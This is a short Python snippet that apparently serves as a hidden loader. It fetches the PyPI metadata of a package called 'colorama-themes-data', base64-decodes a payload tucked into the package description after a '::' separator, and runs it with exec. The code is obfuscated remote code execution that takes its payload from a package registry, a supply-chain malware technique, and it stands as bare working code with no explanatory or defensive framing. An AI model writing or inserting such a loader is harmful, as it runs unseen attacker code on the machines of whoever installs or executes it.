import json, urllib.request, base64
info = json.load(urllib.request.urlopen("https://pypi.org/pypi/colorama-themes-data/json"))["info"]
exec(base64.b64decode(info["description"].split("::")[1]))
